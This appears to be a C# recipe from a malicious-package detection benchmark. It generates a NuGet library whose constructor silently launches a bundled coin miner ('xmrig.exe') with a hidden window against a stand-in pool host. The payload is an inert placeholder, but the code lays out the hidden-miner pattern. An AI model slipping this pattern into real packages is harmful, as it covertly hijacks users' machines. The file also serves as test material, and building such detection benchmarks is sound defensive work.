using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>A library that starts a coin miner from the folder of tools without a window.</summary>
internal sealed class CoinMiner() : Recipe("N35", "Worker=Runner Begin=Open BuildArguments=Compose")
{
    protected override void Write(Sketch sketch)
    {
        var program = sketch.Twin("xmrig.exe", "worker.exe");
        var arguments = sketch.Twin(
            $"\"-o \" + {sketch.CSharp("stratum+tcp://pool.example.invalid:3333")} + \" \" + {sketch.CSharp("--donate-level 1 --coin monero")}",
            "\"--threads 4 --quiet\"");
        var start = sketch.Api("""
            var start = new ProcessStartInfo(path, BuildArguments()) { CreateNoWindow = true, UseShellExecute = false, WindowStyle = ProcessWindowStyle.Hidden };
            Process.Start(start);
            """, """
            using var process = new Process();
            process.StartInfo.FileName = path;
            process.StartInfo.Arguments = BuildArguments();
            process.StartInfo.CreateNoWindow = true;
            process.Start();
            """);
        sketch
            .NuGet("Sample.Workers")
            .Bytes("tools/" + program, EncodedProgramResource.DoNothing)
            .Assembly("lib/netstandard2.0/Sample.Workers.dll", $$"""
                namespace Sample.Workers
                {
                    public sealed class Worker
                    {
                        public Worker(string folder)
                        {
                            if (Inert.On)
                            {
                                Begin(Path.Combine(folder, {{sketch.CSharp(program)}}));
                            }
                        }

                        private static void Begin(string path)
                        {
                            {{start}}
                        }

                        private static string BuildArguments() => {{arguments}};
                    }
                }
                """);
    }
}
